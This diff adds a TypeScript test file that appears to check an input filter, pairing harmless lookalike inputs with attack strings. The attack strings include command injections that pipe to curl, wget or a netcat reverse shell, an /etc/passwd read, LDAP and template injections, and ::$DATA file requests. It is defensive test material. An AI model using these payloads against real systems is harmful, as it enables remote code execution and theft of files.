@@ -1,0 +1,85 @@
+import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'
+
+/** A page of a manual, in a field about which nothing is known. */
+function page(inside: string): ReturnType<typeof sent> {
+  const around = Array.from({ length: 12 }, (_, line) => `Line ${line} of a page that somebody wrote down.`)
+  return sent({ note: [...around, inside, ...around].join('\n') })
+}
+
+/** Settings, expressions and pieces of source that people keep, and what stays an attack beside them. */
+const KINDS: HonestKinds = {
+  'a page about a directory': {
+    honest: [
+      page('user_filter = (&(objectClass=posixAccount)(uid=%u))'),
+      page('dn: uid=ada,ou=people\nobjectClass: person\nuserPassword=secret'),
+    ],
+    attacks: [
+      asked('/s', { q: 'objectClass=*' }),
+      sent({ name: '*)(objectClass=*' }),
+      filled({ user: 'x)(userPassword=*' }),
+    ],
+  },
+  'classes of PHP': {
+    honest: [sent({ code: 'return self::$data;' }), page('$all = Store::$data;\nparent::$data = [];')],
+    attacks: [
+      asked('/index.asp::$DATA', {}),
+      asked('/s', { file: 'web.config::$DATA' }),
+      asked('/s', { file: 'c:\\site\\secret::$DATA' }),
+    ],
+  },
+  'names of programs to choose from': {
+    honest: [
+      asked('/s', { agents: 'googlebot|bingbot|curl|wget' }),
+      sent({ pattern: 'zip|tar|gz|rar' }),
+      filled({ pattern: '\\b(?:curl|wget|python-requests)\\b' }),
+    ],
+    attacks: [
+      asked('/s', { q: 'a|curl http://x.example/a' }),
+      asked('/s', { q: 'a|curl|sh' }),
+      sent({ host: 'x|wget -O- x.example' }),
+      filled({ host: '1;nc -e /bin/sh 10.0.0.1 80' }),
+      asked('/s', { q: '127.0.0.1|id|' }),
+    ],
+  },
+  'a container that waits': {
+    honest: [
+      posted('application/yaml', 'services:\n  a:\n    command: sh -c "echo a && tail -f /dev/null"\n'),
+    ],
+    attacks: [
+      asked('/s', { host: 'x;tail -f /dev/null' }),
+      posted('application/yaml', 'a:\n  command: "echo a && tail -f /etc/passwd"\n'),
+    ],
+  },
+  'regular expressions': {
+    honest: [
+      sent({ pattern: '^((.*))$' }),
+      sent({ pattern: '(?:\\S*))' }),
+      sent({ pattern: '^[A-Z]$[0-9]' }),
+      sent({ pattern: '[a-z]&{2}' }),
+    ],
+    attacks: [
+      sent({ user: 'admin*))' }),
+      sent({ user: '*))\u0000' }),
+      asked('/s', { q: '$[7*7]' }),
+      asked('/s', { q: '-1&{document.cookie};' }),
+    ],
+  },
+  'conditions of a script': {
+    honest: [
+      sent({ condition: 'a=="x"||"y"===b.c("d")' }),
+      sent({ condition: 'if (!(n=e.target)) return' }),
+      sent({ condition: 'f("x")&&"ascending"!==d.order' }),
+    ],
+    attacks: [
+      sent({ name: '" || "a"="a' }),
+      sent({ name: "' or 'a'==='a" }),
+      asked('/s', { q: '*)(!(uid=x))' }),
+    ],
+  },
+  'formulas of TeX': {
+    honest: [sent({ text: '$$ {{1+2}\\over{3}} $$' })],
+    attacks: [sent({ name: '{{1+2}}' }), asked('/s', { q: 'x {{7*7}} y' }), sent({ name: '{7*7}' })],
+  },
+}
+
+testKinds(KINDS)
